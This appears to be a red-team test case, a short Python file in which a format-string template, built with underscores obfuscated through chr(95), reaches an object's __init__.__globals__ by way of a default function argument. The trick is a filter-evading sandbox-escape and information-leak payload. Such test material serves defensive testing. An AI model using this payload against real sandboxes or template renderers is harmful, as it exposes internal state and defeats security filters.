# family: red team, round 61a (the caller-template function reached without its name: a default argument of another function)
U = chr(len("x" * 95)) * 2
EVIL = "{0." + U + "init" + U + "." + U + "globals" + U + "}"


class K:
    def __init__(self):
        self.v = 1


def render(template, value):
    return template.format(value)


def show(obj, how=render):
    return how(EVIL, obj)


print(show(K()))
